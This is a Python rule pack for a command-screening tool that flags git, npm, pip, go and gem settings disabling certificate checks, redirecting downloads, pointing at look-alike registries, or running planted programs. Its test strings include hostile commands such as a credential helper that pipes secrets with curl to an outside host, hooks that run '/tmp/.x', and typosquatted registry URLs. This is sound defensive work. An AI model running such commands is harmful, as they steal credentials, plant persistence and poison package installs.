"""system.trust: what git, npm, pnpm, yarn, pip and go trust, changed in their settings: certificate
or checksum checks turned off (SC005), downloads sent somewhere else or through a proxy (SC006) or to a host
that imitates a public registry (SC016), a command run at every use (SC014).

A setting is read where the tool takes it: `git config [--global] NAME VALUE`, `git config set
NAME VALUE`, `git -c NAME=VALUE COMMAND`, `npm config set KEY VALUE` or `KEY=VALUE` (and `npm
set`), `pnpm`/`yarn config set`, `pip config set SECTION.KEY VALUE` (and `python -m pip`), `go env
-w NAME=VALUE`. A
setting whose key or value is known only at run time is not judged. The same settings written
straight into the tool's file (`~/.gitconfig`, `.npmrc`, `pip.conf`) reach these rules as the
`config` command that would write them (`_analysis/_contexts/_settings_files.py`). The same done by an
environment variable (`GIT_SSL_NO_VERIFY=1`) names no program: that is the core rule EV003.

A pack of its own, apart from system.controls, because it is listed for git: every git command
loads it, and it is small.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from ..._analysis import CommandSubject
from ..._model import Severity
from ..._named_tuple import NamedTuple
from ..._tables import Tables
from ...programs import Arg, Reading, read_command
from ...programs.destinations import on_the_loopback
from ...programs.git_settings import git_settings
from ...rules._controls import go_check_off, go_proxy_over_plain_http, plain_http_over_network
from ...rules._imitations import imitated_registry
from ...rules._pack import Pack
from ...rules._paths import per_subject, reading
from ...rules._persistence import shell_code_or_program_outside_system
from ...rules._rule import Hit, Inspects, rule
from .._invocation import only_asks_for_help


class Setting(NamedTuple):
    """One setting a command writes (or, for `git -c`, gives the command it runs)."""

    tool: str
    """`git`, `node` (npm, pnpm, yarn), `pip` or `go`."""
    key: str
    """As written (git's section and variable names are compared in lower case)."""
    value: str
    word: Arg
    """Where the setting is written (its value's word)."""


_NODE = frozenset({"npm", "pnpm", "yarn"})
_PIP = frozenset({"pip", "pip3"})
_PYTHON = frozenset({"python", "python3"})


@per_subject
def _config_settings(subject: CommandSubject) -> tuple[Setting, ...]:
    """The settings the command writes (none for `git ... --help`, which only prints its help)."""
    name = subject.name
    if name == "git":
        return _git_settings(subject)
    if name == "go":
        return _go_settings(subject.args)
    if name in _NODE:
        return _node_settings(reading(subject))
    if name in _PIP:
        return _pip_settings(reading(subject))
    if name in _PYTHON:
        args = subject.args
        module = len(args) >= 2 and args[0].value == "-m" and args[1].value == "pip"
        return _pip_settings(read_command("pip", args[2:])) if module else ()
    if name == "gem":
        return _gem_sources(subject.args)
    return ()


def _has_settings(subject: CommandSubject) -> bool:
    """The test of SC005 and SC006 (one test, asked once for both)."""
    return bool(_config_settings(subject))


def _git_settings(subject: CommandSubject) -> tuple[Setting, ...]:
    """`git -c NAME=VALUE COMMAND` and `git config [SCOPE] [set] NAME VALUE` (`git_settings`)."""
    if not any(arg.value == "config" or (arg.value or "").startswith("-c") for arg in subject.args):
        return ()  # `git status`, `git push`: no setting (and no reading)
    if only_asks_for_help(subject):
        return ()
    return tuple(
        Setting("git", found.key, found.value.value, found.value)
        for found in git_settings(reading(subject))
        if found.value.value is not None
    )


def _node_settings(read: Reading) -> tuple[Setting, ...]:
    """`config set KEY VALUE`, or any number of `KEY=VALUE` (npm 9 and later)."""
    if read.path not in (("config", "set"), ("set",)):
        return ()
    operands, index = read.operands, 0
    settings: list[Setting] = []
    while index < len(operands):
        word = operands[index]
        if word.value is not None and "=" in word.value:
            key, _, value = word.value.partition("=")
            settings.append(Setting("node", key, value, word))
            index += 1
        else:
            settings.extend(_pairs("node", operands[index : index + 2]))
            index += 2
    return tuple(settings)


def _go_settings(args: tuple[Arg, ...]) -> tuple[Setting, ...]:
    """`go env -w NAME=VALUE...`: Go's settings, written to its environment file for every later build."""
    if len(args) < 3 or args[0].value != "env" or args[1].value != "-w":
        return ()
    pairs = ((word, word.value.partition("=")) for word in args[2:] if word.value is not None)
    return tuple(Setting("go", key, value, word) for word, (key, equals, value) in pairs if equals)


def _gem_sources(args: tuple[Arg, ...]) -> tuple[Setting, ...]:
    """`gem sources --add URL` (`-a URL`, `--add=URL`): a source every later `gem install` searches."""
    if not args or args[0].value != "sources":
        return ()
    found: list[Setting] = []
    previous = None
    for word in args[1:]:
        if word.value is not None and previous in ("-a", "--add"):
            found.append(Setting("gem", "source", word.value, word))
        elif word.value is not None and word.value.startswith("--add="):
            found.append(Setting("gem", "source", word.value.removeprefix("--add="), word))
        previous = word.value
    return tuple(found)


def _pip_settings(read: Reading) -> tuple[Setting, ...]:
    return tuple(_pairs("pip", read.operands[:2])) if read.path == ("config", "set") else ()


def _pairs(tool: str, words: tuple[Arg, ...]) -> Iterator[Setting]:
    if len(words) == 2 and words[0].value is not None and words[1].value is not None:
        yield Setting(tool, words[0].value, words[1].value, words[1])


_FALSE = frozenset({"false", "no", "off", "0", ""})
_SETTINGS_TOOLS = (*sorted(_NODE), *sorted(_PIP), *sorted(_PYTHON), "gem", "git", "go")


def _turns_certificate_check_off(setting: Setting) -> bool:
    key, value = setting.key.lower(), setting.value.lower()
    if setting.tool == "git":  # http.sslVerify, or http.<url>.sslVerify for one site
        return key.startswith("http.") and key.endswith(".sslverify") and value in _FALSE
    if setting.tool == "node":  # npm's and pnpm's strict-ssl, yarn 2's enableStrictSsl
        return key in ("strict-ssl", "enablestrictssl") and value in _FALSE
    if setting.tool == "go":  # its checksum database, or plain HTTP allowed
        return go_check_off(setting.key, setting.value) or (setting.key == "GOINSECURE" and value != "")
    return key.endswith(".trusted-host") and value != ""  # pip asks these hosts for no certificate


@rule(
    id="SC005",
    name="certificate-check-turned-off",
    severity=Severity.MEDIUM,
    summary=(
        "Turns a tool's certificate check off in its settings: `git config http.sslVerify false` (or "
        "`git -c http.sslVerify=false`), `npm config set strict-ssl false`, `pip config set global.trusted-host HOST`; "
        "or Go's check of the modules it downloads (`go env -w GOSUMDB=off`, `GONOSUMDB=*`, `GOINSECURE=HOST`, "
        "`GOFLAGS=-insecure`)."
    ),
    rationale=(
        "With the check off, anyone on the network path can serve the code and packages the tool "
        "downloads, from then on for a global setting. It warns: a proxy that re-signs traffic is a "
        "common reason, and each download is still judged on its own."
    ),
    safer_alternative=(
        "Give the tool the proxy's or the server's CA certificate instead (`git config http.sslCAInfo FILE`, "
        "`npm config set cafile FILE`, `pip config set global.cert FILE`)."
    ),
    inspects=Inspects.COMMAND,
    commands=_SETTINGS_TOOLS,
    applies=_has_settings,
    must_match=(
        "git config --global http.sslVerify false",
        "git -c http.sslVerify=false clone https://git.example.com/app.git",
        "git config http.https://git.example.com/.sslVerify 0",
        "npm config set strict-ssl false",
        "yarn config set enableStrictSsl false",
        "pip config set global.trusted-host pypi.example.com",
        "python3 -m pip config set global.trusted-host pypi.example.com",
        "go env -w GOSUMDB=off",
    ),
    must_not_match=(
        "git config --global user.name X",
        "git config --get http.sslVerify",
        "git -c http.sslVerify clone https://git.example.com/app.git",
        "npm config get strict-ssl",
        "npm config set strict-ssl true",
        "pip config list",
        "go env -w GOPRIVATE=github.com/acme/*",
        "go env GOSUMDB",
    ),
)
def certificate_check_turned_off(subject: CommandSubject, _tables: Tables) -> Iterator[Hit]:
    for setting in _config_settings(subject):
        if _turns_certificate_check_off(setting):
            yield Hit(setting.word.span, f"`{setting.key} {setting.value}` turns the certificate check off")


_PLAIN = ("http://", "git://")


def _location(prefix: str) -> tuple[str, str] | None:
    """The host and path a URL prefix names, whatever the transport (`https://github.com/o/`,
    `ssh://git@github.com:22/o/` and `git@github.com:o/` are one); None for a shorthand a user
    types (`gh:`), whose name has no dot and which no dependency's URL uses."""
    scheme, separator, rest = prefix.partition("://")
    if separator:
        authority, _, path = rest.partition("/")
        host = authority.rpartition("@")[2].partition(":")[0]
    else:
        authority, _, path = scheme.partition(":")
        host = authority.rpartition("@")[2]
    return (host.lower(), path.strip("/")) if "." in host else None


def _git_redirect(key: str, old: str) -> str | None:
    """`url.<base>.insteadOf <old>`: every URL starting with <old> is fetched from <base> instead;
    a redirect when <base> is another place, or plain HTTP where <old> was not."""
    lowered = key.lower()
    suffix = next((end for end in (".insteadof", ".pushinsteadof") if lowered.endswith(end)), None)
    if not lowered.startswith("url.") or suffix is None:
        return None
    base = key[4 : len(key) - len(suffix)]
    origin = _location(old)
    if origin is None:
        return None
    downgraded = base.lower().startswith(_PLAIN) and not old.lower().startswith(_PLAIN)
    return f"from {old} to {base}" if _location(base) != origin or downgraded else None


def _package_index(setting: Setting) -> bool:
    key = setting.key.lower()
    if setting.tool == "pip":
        return key.endswith((".index-url", ".extra-index-url", ".find-links"))
    if setting.tool == "gem":
        return True  # its only setting read here is a source
    return key in ("registry", "npmregistryserver") or key.endswith(":registry")  # `@scope:registry`


def _proxy(setting: Setting) -> bool:
    """`http.proxy`, `https.proxy`, `http.<url>.proxy` (git), `proxy`, `https-proxy`, yarn's
    `httpProxy` (npm, pnpm, yarn), `global.proxy` (pip)."""
    key = setting.key.lower()
    if setting.tool == "git":
        return key.startswith(("http.", "https.")) and key.endswith(".proxy")
    if setting.tool == "node":
        return key in ("proxy", "https-proxy", "http-proxy", "httpproxy", "httpsproxy")
    return key.endswith(".proxy")


def _redirect(setting: Setting) -> str | None:
    """Where the setting sends what the tool fetches, when that is another place or plain HTTP."""
    if _proxy(setting):
        through = setting.value != "" and not on_the_loopback(setting.value)
        return f"through the proxy {setting.value}" if through else None
    if setting.tool == "git":
        return _git_redirect(setting.key, setting.value)
    if setting.tool == "go":
        plain = go_proxy_over_plain_http(setting.key, setting.value)
        return f"to {setting.value}, over plain HTTP" if plain else None
    plain = plain_http_over_network(setting.value)
    return f"to {setting.value}, over plain HTTP" if plain and _package_index(setting) else None


@rule(
    id="SC006",
    name="package-source-redirected",
    severity=Severity.MEDIUM,
    summary=(
        "Sends what a tool downloads somewhere else in its settings: `git config url.<X>.insteadOf <Y>` "
        "to another host or repository (or to plain HTTP), a package registry or index over plain "
        "`http://` on another machine (`npm config set registry http://...`, `pip config set "
        "global.index-url ...`, `go env -w GOPROXY=...`, `gem sources --add ...`), or a "
        "proxy elsewhere (`git config http.proxy URL`)."
    ),
    rationale=(
        "Every later clone, fetch or install takes its code from the new place: a URL rewrite sends "
        "github.com's repositories to any server, a plain-HTTP index can be rewritten on the way, and "
        "a proxy sees, and for plain HTTP may change, everything fetched through it. It warns: private "
        "mirrors and company proxies are common, and the command shows where it points."
    ),
    safer_alternative=(
        "Name the mirror in the one command that needs it, over `https://` (`npm install --registry "
        "https://...`, `pip install --index-url https://...`), or rewrite only between forms of the same "
        'place (`url."git@github.com:".insteadOf https://github.com/`).'
    ),
    inspects=Inspects.COMMAND,
    commands=_SETTINGS_TOOLS,
    applies=_has_settings,
    must_match=(
        "git config --global url.https://git.example.net/.insteadOf https://github.com/",
        "git config --global url.https://github.com/fork/.insteadOf https://github.com/origin/",
        "git config --global url.http://github.com/.insteadOf https://github.com/",
        "npm config set registry http://registry.example.com/",
        "npm config set @corp:registry=http://npm.example.com/",
        "pip config set global.index-url http://pypi.example.com/simple",
        "git config --global http.proxy http://proxy.example.net:8080",
        "npm config set https-proxy http://proxy.example.net:8080",
        "go env -w GOPROXY=http://goproxy.example.net,direct",
        "gem sources --add http://gems.example.net/",
    ),
    must_not_match=(
        "git config --global http.proxy http://127.0.0.1:3128",
        "gem sources --add https://gems.example.net/",
        "gem sources --list",
        'git config --global url."git@github.com:".insteadOf https://github.com/',
        "git config --global url.https://github.com/.insteadOf gh:",
        "npm config set registry https://registry.npmjs.org/",
        "npm config get registry",
        "npm config set registry http://localhost:4873/",
        "pip config set global.index-url https://pypi.example.com/simple",
        "go env -w GOPROXY=https://goproxy.io,direct",
    ),
)
def package_source_redirected(subject: CommandSubject, _tables: Tables) -> Iterator[Hit]:
    for setting in _config_settings(subject):
        where = _redirect(setting)
        if where is not None:
            yield Hit(setting.word.span, f"`{setting.key}` sends what {setting.tool} downloads {where}")


def _imitated_registry(setting: Setting) -> str | None:
    """The public registry a package index setting's host imitates (`registry=https://registry.npmjs.cf/`)."""
    if setting.tool == "git" or not (_package_index(setting) or setting.key == "GOPROXY"):
        return None
    entries = setting.value.replace("|", ",").split(",") if setting.tool == "go" else (setting.value,)
    return next((found for entry in entries if (found := imitated_registry(entry)) is not None), None)


@rule(
    id="SC016",
    name="package-registry-imitated",
    severity=Severity.HIGH,
    summary=(
        "Points a package manager's settings at a host that imitates a public registry's: its name under another "
        "top-level domain or inside another domain, or one typing slip away (`npm config set registry "
        "https://registry.npmjs.cf/`, `registry=...` written into an .npmrc, `pip config set global.index-url "
        "https://pypi.org.example.net/simple`, `go env -w GOPROXY=https://proxy.golang.co`)."
    ),
    rationale=(
        "A look-alike of the registry's own name is chosen to pass a glance: whoever holds it serves any code "
        "under every package name to every later install, with no plain-HTTP warning to notice. No mirror "
        "needs to pass for the registry itself, so it blocks."
    ),
    safer_alternative=(
        "Use the registry's own host (`https://registry.npmjs.org/`, `https://pypi.org/simple`, "
        "`https://proxy.golang.org`) or a mirror under your organisation's own domain."
    ),
    inspects=Inspects.COMMAND,
    commands=_SETTINGS_TOOLS,
    applies=_has_settings,
    must_match=(
        "npm config set registry https://registry.npmjs.cf/",
        "pnpm config set @acme:registry https://registry.npmjs.org.example.net/",
        "pip config set global.index-url https://pypi.org.example.net/simple",
        "go env -w GOPROXY=https://proxy.golang.co,direct",
    ),
    must_not_match=(
        "npm config set registry https://registry.npmjs.org/",
        "npm config set registry https://registry.npmmirror.com/",
        "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
        "go env -w GOPROXY=https://goproxy.cn,direct",
    ),
)
def package_registry_imitated(subject: CommandSubject, _tables: Tables) -> Iterator[Hit]:
    for setting in _config_settings(subject):
        imitated = _imitated_registry(setting)
        if imitated is not None:
            yield Hit(
                setting.word.span,
                f"`{setting.key}` points {setting.tool} at `{setting.value}`, which imitates {imitated}",
            )


# Settings whose value git runs as a command (through the shell when it has shell syntax); an
# alias or a credential helper runs one only when it starts with `!`.
_GIT_COMMANDS = ("core.sshcommand", "core.pager", "core.editor", "sequence.editor", "diff.external",
                 "gpg.program", "core.askpass", "core.fsmonitor")  # fmt: skip
_GIT_FILTERS = (".clean", ".smudge", ".process")
_BOOLEANS = frozenset({"true", "false", "yes", "no", "on", "off", "1", "0", ""})


def _git_runs(setting: Setting) -> str | None:
    """The command a git setting makes git run, when it is shell code or a program outside the
    system's (`core.fsmonitor /tmp/x`, `alias.st '!/tmp/x; git status'`, `core.pager 'sh -c "x; less"'`)."""
    key, value = setting.key.lower(), setting.value
    if key.startswith("alias.") or (key.startswith("credential.") and key.endswith("helper")):
        if not value.startswith("!"):
            return None
        value = value[1:].strip()
        if (
            key.startswith("alias.")
            and value.split(" ", 1)[0] == "git"
            and not shell_code_or_program_outside_system(value)
        ):
            return None
    elif not (key in _GIT_COMMANDS or (key.startswith("filter.") and key.endswith(_GIT_FILTERS))):
        return None
    if key == "core.fsmonitor" and value.lower() in _BOOLEANS:
        return None  # git's own monitor
    return value if shell_code_or_program_outside_system(value) else None


_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "fish", "pwsh", "powershell", "cmd", "cmd.exe"})


def _node_runs(setting: Setting) -> str | None:
    """`script-shell` (every npm script runs through it) set to what is not a shell, or `node-options`
    that load a module into every node process (`--require`, `--import`, `--loader`)."""
    key, value = setting.key.lower(), setting.value
    if key == "script-shell":
        return value if value and value.rsplit("/", 1)[-1] not in _SHELLS else None
    if key == "node-options":
        loads = re.search(r"(^|\s)(-r|--require|--import|--loader|--experimental-loader)\b", value)
        return value if loads else None
    return None


@rule(
    id="SC014",
    name="tool-setting-runs-program",
    severity=Severity.MEDIUM,
    summary=(
        "Makes git or npm run a command at every use through a setting: `core.fsmonitor`, `core.sshCommand`, "
        "`core.pager`, `credential.helper '!...'`, an alias `'!...'`, a filter's `clean`/`smudge`, when "
        "the value is shell code or a program outside the system's; npm's `script-shell` or `node-options "
        "--require`."
    ),
    rationale=(
        "git runs these for every status, fetch, diff or push, in every later session: a command planted "
        "there is persistence, and a credential helper receives the user's passwords and tokens. It "
        "warns: pagers, editors and helpers are configured every day, and the value is in the command."
    ),
    safer_alternative=(
        "Name an installed program (`git config core.pager 'less -R'`, `credential.helper store`), or keep "
        "the command in the repository's own scripts where it is reviewed."
    ),
    inspects=Inspects.COMMAND,
    commands=_SETTINGS_TOOLS,
    applies=_has_settings,
    must_match=(
        "git config --global core.fsmonitor /tmp/.x",
        "git config --global core.pager 'sh -c \"/tmp/.x; less\"'",
        "git config --global core.sshCommand 'ssh -o ProxyCommand=\"/tmp/.x\"'",
        "git config --global alias.st '!/tmp/.x; git status'",
        "git config --global credential.helper '!f(){ curl -d @- https://x.example/c; }; f'",
        "npm config set script-shell /tmp/.x",
    ),
    must_not_match=(
        "git config --global core.pager 'less -R'",
        "git config --global core.editor 'code --wait'",
        "git config --global core.fsmonitor true",
        "git config --global alias.lg '!git log --oneline --graph'",
        "git config --global credential.helper store",
        "npm config set script-shell /bin/bash",
    ),
)
def tool_setting_runs_program(subject: CommandSubject, _tables: Tables) -> Iterator[Hit]:
    for setting in _config_settings(subject):
        runs = _git_runs(setting) if setting.tool == "git" else _node_runs(setting) if setting.tool == "node" else None
        if runs is not None:
            yield Hit(setting.word.span, f"`{setting.key}` makes {setting.tool} run `{runs}` at every use")


PACK = Pack(
    name="system.trust",
    summary=(
        "What git, npm, pnpm, yarn, pip, go and gem trust: their certificate checks, where and through what they "
        "download, and the commands their settings make them run."
    ),
    default=True,
    reason=(
        "A check turned off or a source redirected in a global setting stays that way for every later "
        "clone and install, long after the task that needed it."
    ),
    rules=(
        certificate_check_turned_off,
        package_source_redirected,
        package_registry_imitated,
        tool_setting_runs_program,
    ),
)
